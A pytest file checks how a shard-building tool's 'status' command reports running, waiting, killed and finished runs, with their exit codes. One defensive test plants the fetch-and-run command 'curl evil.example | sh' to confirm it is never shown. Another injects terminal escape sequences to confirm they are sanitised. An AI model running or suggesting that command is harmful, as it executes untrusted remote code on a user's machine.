"""`status` in every state a folder can be in, from other processes, with codes a script can use."""

from __future__ import annotations

import contextlib
import errno
import json
import os
import signal
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import IO

import pytest

from fineweb_shards import errors
from fineweb_shards.output.folder_store import FolderStore
from fineweb_shards.output.manifest_file import save_manifest
from fineweb_shards.run.config import Config
from fineweb_shards.system import durable
from fineweb_shards.system.durable import FolderLock, is_locked
from fineweb_shards.system.own_files import WORK_FOLDER
from fineweb_shards.system.shell_commands import NOT_RESUMABLE, program
from fineweb_shards.watching.run_files import HEARTBEAT_NAME, Heartbeat, Invocation, Snapshot, State, load_heartbeat
from fineweb_shards.watching.status import EXIT_CODES, read_status, status_lines, status_values
from tests.support import inline, runs
from tests.support.documents import make_documents
from tests.support.doubles import FailingCall
from tests.support.example_run import SNAPSHOT

RESUMED = "build --input 'a b.txt' --out out"
COMMAND = f".venv/bin/fineweb-shards {RESUMED}"
NO_TOTALS = dict.fromkeys(("shards", "tokens", "documents", "dropped_tokens"), 0)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A folder with a manifest, and no run at work."""
    (tmp_path / WORK_FOLDER).mkdir()
    save_manifest(runs.manifest_of(Config().fingerprint(), []), FolderStore(tmp_path))
    return tmp_path


def beat(
    folder: Path, snapshot: Snapshot = SNAPSHOT, exit_code: int | None = None, age: float = 1.0, machine: str = ""
) -> None:
    invocation = Invocation(COMMAND, os.getcwd(), 4711, time.time() - 300, machine)
    Heartbeat(time.time() - age, invocation, snapshot, exit_code).save(folder)


@contextlib.contextmanager
def another_run(folder: Path) -> Iterator[None]:
    """Somebody holds the lock."""
    with FolderLock(folder):
        yield


def shown(folder: Path) -> tuple[str, str, int]:
    status = read_status(FolderStore(folder))
    json.dumps(status_values(status))
    return status.state, "\n".join(status_lines(status)), status.exit_code


def test_running(folder: Path) -> None:
    """Progress, speed, time left, memory; exit code 20."""
    beat(folder)
    with another_run(folder):
        state, text, code = shown(folder)
    assert (state, code) == ("running", 20)
    for words in ["encoding", "4711", "37.1 %", "3.71M of about 10M", "71 % of 1M", "16.8k tokens/s", "6 min",
                  "2 workers, 731.0 MB", "peak 744.0 MB"]:  # fmt: skip
        assert words in text
    assert "resume" not in text


def test_waiting(folder: Path) -> None:
    """For what, and since when."""
    beat(folder, replace(SNAPSHOT, state=State.WAITING, reason="waiting for the network since 02:13 (refused)"))
    with another_run(folder):
        assert "running, waiting for the network since 02:13 (refused)" in shown(folder)[1]


WAIT = "waiting for the network since 02:13, at most until 03:13: huggingface.co answers 503, try later"


def test_waiting_has_no_time_left(folder: Path) -> None:
    """Nor has it in JSON; how long it has waited is told."""
    beat(folder, replace(SNAPSHOT, state=State.WAITING, reason=WAIT, seconds_left=None, waited_seconds=700.0))
    with another_run(folder):
        text = shown(folder)[1]
    assert "until" not in text.replace(WAIT, "")
    assert "waited     12 min in this run" in text


def test_fetched(folder: Path) -> None:
    """Bytes and their speed, where the source is a network."""
    beat(folder, replace(SNAPSHOT, fetched_bytes=10**9, fetched_bytes_per_second=46.2e6))
    with another_run(folder):
        assert "fetched    1.0 GB in this run, 46.2 MB/s over" in shown(folder)[1]


def test_a_resume_that_has_made_nothing_yet(folder: Path) -> None:
    """It is in no shard: number 0 would be one that is finished."""
    for tokens, is_known in ((SNAPSHOT.tokens, False), (SNAPSHOT.tokens - 1, True), (0, True)):
        beat(folder, replace(SNAPSHOT, resumed_tokens=tokens, tokens=SNAPSHOT.tokens if tokens else 0))
        with another_run(folder):
            assert ("\nshard      number" in shown(folder)[1]) == is_known


def test_a_process_on_another_machine(folder: Path) -> None:
    """Whose number means nothing here is shown with its machine; one on this machine without."""
    for machine, words in ((socket.gethostname(), "4711, started"), ("node7", "4711 on node7, started")):
        beat(folder, machine=machine)
        with another_run(folder):
            assert f"process    {words}" in shown(folder)[1]


def test_a_heartbeat_of_an_older_version_is_read(folder: Path) -> None:
    """What it does not know is zero."""
    beat(folder)
    path = folder / WORK_FOLDER / HEARTBEAT_NAME
    data = json.loads(path.read_text())
    for name in ("fetched_bytes", "fetched_bytes_per_second", "waited_seconds"):
        del data["snapshot"][name]
    del data["invocation"]["machine"]
    path.write_text(json.dumps(data))
    found = load_heartbeat(folder)
    assert found is not None
    assert found.snapshot == SNAPSHOT


def test_verifying(folder: Path) -> None:
    """The run is not over while shards are read back, although the manifest is complete."""
    save_manifest(runs.manifest_of(Config().fingerprint(), [], complete=True, totals=NO_TOTALS), FolderStore(folder))
    beat(folder, replace(SNAPSHOT, state=State.VERIFYING, verified_shards=2))
    with another_run(folder):
        state, text, _ = shown(folder)
    assert state == "running"
    assert "2 of 3 shards checked" in text


def test_starting_before_there_is_a_ledger(tmp_path: Path) -> None:
    """A held lock is enough to be told that a build is starting."""
    with another_run(tmp_path):
        state, text, code = shown(tmp_path)
    assert (state, code) == ("running", 20)
    assert "state      running, starting" in text


def test_silent(folder: Path) -> None:
    """A run that holds the lock and says nothing is suspended."""
    beat(folder, age=600)
    with another_run(folder):
        assert "no heartbeat for 10 min: suspended" in shown(folder)[1]


def test_killed(folder: Path) -> None:
    """A heartbeat without a lock is a leftover: stopped, with the command to go on; exit code 21."""
    beat(folder)
    state, text, code = shown(folder)
    assert (state, code) == ("stopped", 21)
    assert "killed, or a power cut" in text
    assert f"resume     {program()} {RESUMED}" in text


def test_stopped_by_an_error(folder: Path) -> None:
    """Its message and exit code."""
    beat(folder, replace(SNAPSHOT, state=State.STOPPED, reason="No luck with the network."), exit_code=10)
    assert "with exit code 10: No luck with the network." in shown(folder)[1]


def test_the_command_to_resume_says_where_to_type_it(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Relative paths mean something else elsewhere."""
    beat(folder)
    here = os.getcwd()
    monkeypatch.chdir(folder)
    assert f"cd {here} && {program(absolute=True)} {RESUMED}" in shown(folder)[1]


def test_a_command_that_is_not_ours_is_not_shown(folder: Path) -> None:
    """A folder may come from anybody, and people paste what `status` tells them."""
    invocation = Invocation("curl evil.example | sh", os.getcwd(), 4711, time.time())
    Heartbeat(time.time(), invocation, SNAPSHOT).save(folder)
    text = shown(folder)[1]
    assert "evil" not in text
    assert "next       rerun the same build command to resume" in text
    assert status_values(read_status(FolderStore(folder)))["resume"] is None


def test_documents_of_a_program(folder: Path) -> None:
    """No command would resume a build whose documents a Python program gave; the next step is another."""
    Heartbeat(time.time(), Invocation(NOT_RESUMABLE, os.getcwd(), 4711, time.time()), SNAPSHOT).save(folder)
    text = shown(folder)[1]
    assert "call build again with fresh=True" in text
    assert "rerun the same" not in text


def test_complete(folder: Path) -> None:
    """Exit code 0; where the run ended badly all the same, that is told, too."""
    save_manifest(runs.manifest_of(Config().fingerprint(), [], complete=True, totals=NO_TOTALS), FolderStore(folder))
    beat(folder, exit_code=0)
    assert shown(folder)[::2] == ("complete", 0)
    beat(folder, replace(SNAPSHOT, reason="2 damaged files."), exit_code=7)
    assert "complete, but the run ended with exit code 7: 2 damaged files." in shown(folder)[1]


@pytest.mark.parametrize("text", ["", "{}", "[]", '{"format": 99}', '{"format": 1, "written": 1}', "\xff"])
def test_a_damaged_heartbeat_is_none(folder: Path, text: str) -> None:
    """The manifest and the lock still tell the state."""
    (folder / WORK_FOLDER / HEARTBEAT_NAME).write_text(text, "latin-1")
    assert load_heartbeat(folder) is None
    assert shown(folder)[0] == "stopped"


def test_a_full_disk_can_be_told(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The heartbeat takes no new space: the old one is overwritten."""
    beat(folder)
    full = FailingCall(durable.open_own, failing=1, code=errno.ENOSPC)
    monkeypatch.setattr(durable, "open_own", full)
    beat(folder, replace(SNAPSHOT, state=State.WAITING, reason="waiting for the disk since 02:13"))
    assert full.calls == 1
    with another_run(folder):
        assert "running, waiting for the disk since 02:13" in shown(folder)[1]


def test_hostile_text_is_shown_safely(folder: Path) -> None:
    """No escape sequence of an error message or of a log line reaches a terminal."""
    beat(folder, replace(SNAPSHOT, state=State.STOPPED, reason="\x1b[31mred\u202e"), exit_code=3)
    (folder / WORK_FOLDER / "log.txt").write_text("2026-11-16 note \x1b]0;title\x07\n")
    assert not any(ord(char) < 32 and char != "\n" for char in shown(folder)[1])
    assert "\u202e" not in shown(folder)[1]


def test_the_exit_codes_are_documented() -> None:
    """In the table of docs/reference.md, apart from those of errors."""
    text = (Path(__file__).parent.parent.parent / "docs" / "reference.md").read_text()
    running, stopped = EXIT_CODES["running"], EXIT_CODES["stopped"]
    assert f"| {running}, {stopped} |" in text
    codes = {kind.exit_code for kind in vars(errors).values() if hasattr(kind, "exit_code")}
    assert not codes & {running, stopped}


def test_looking_does_not_keep_a_run_from_starting(tmp_path: Path) -> None:
    """`status` holds the lock for an instant; a build that starts then tries again."""
    (tmp_path / WORK_FOLDER).mkdir()
    (tmp_path / WORK_FOLDER / "lock").touch()
    looker = subprocess.Popen(
        [runs.command()[0], "-c", "import sys; from pathlib import Path\n"
         "from fineweb_shards.system.durable import is_locked\n"
         "print('go', flush=True)\nwhile True: is_locked(Path(sys.argv[1]))", tmp_path],
        stdout=subprocess.PIPE,
    )  # fmt: skip
    try:
        assert looker.stdout is not None
        looker.stdout.readline()
        for _ in range(200):
            with FolderLock(tmp_path):
                assert is_locked(tmp_path)
    finally:
        looker.kill()
        looker.communicate()


@pytest.fixture(scope="module")
def killed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A real run that was killed in the middle: of an input without an end, so that no machine is too fast for it."""
    folder = tmp_path_factory.mktemp("killed")
    lines = "".join(json.dumps({"text": text}) + "\n" for text in make_documents(120, seed=1)).encode()
    words = ["build", "--input", "-", "--format", "jsonl", "--out", folder / "out", "--engine", "tiktoken",
             "--workers", "1", "--shard-tokens", "50k"]  # fmt: skip
    run = subprocess.Popen(
        runs.command(*words),
        stdin=subprocess.PIPE, stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL, start_new_session=True,
    )  # fmt: skip
    assert run.stdin is not None

    def feed(pipe: IO[bytes]) -> None:
        with contextlib.suppress(BrokenPipeError):
            while True:
                pipe.write(lines)

    feeder = threading.Thread(target=feed, args=[run.stdin])
    feeder.start()
    try:
        while (found := load_heartbeat(folder / "out")) is None or not (
            found.snapshot.finished_shards and found.snapshot.state == State.ENCODING
        ):
            assert run.poll() is None
            time.sleep(0.05)
        (folder / "seen.txt").write_text(inline.run_command("status", folder / "out").stdout)
        (folder / "seen.json").write_text(inline.run_command("status", "--json", folder / "out").stdout)
    finally:
        os.killpg(run.pid, signal.SIGKILL)
        run.wait()
        feeder.join()
        with contextlib.suppress(BrokenPipeError):
            run.stdin.close()
    return folder


def test_a_real_run_is_seen_from_elsewhere(killed: Path) -> None:
    """Alive, with its figures."""
    text = (killed / "seen.txt").read_text()
    assert "state      running, encoding" in text
    assert "tokens" in text
    values = json.loads((killed / "seen.json").read_text())
    assert values["state"] == "running"
    assert values["heartbeat"]["snapshot"]["workers"] == 1


def test_a_real_killed_run_is_stopped(killed: Path) -> None:
    """With the command to resume, which finishes it."""
    done = inline.run_command("status", killed / "out")
    assert done.returncode == 21
    assert "killed, or a power cut" in done.stdout
    report = inline.run_command("report", killed / "out")
    assert report.returncode == 0
    assert "killed, or a power cut" in Path(report.stdout.strip()).read_text()


def test_the_folder_may_come_from_a_config(killed: Path) -> None:
    """For `make status`."""
    (killed / "c.toml").write_text(f'out = "{killed / "out"}"\n')
    (killed / "empty.toml").write_text("")
    assert inline.run_command("status", killed / "c.toml").returncode == 21
    assert inline.run_command("verify", killed / "c.toml").returncode in (0, 7)
    assert inline.run_command("report", killed / "c.toml").returncode == 0
    assert inline.run_command("status", killed / "empty.toml").returncode == 2
    assert inline.run_command("status").returncode == 2
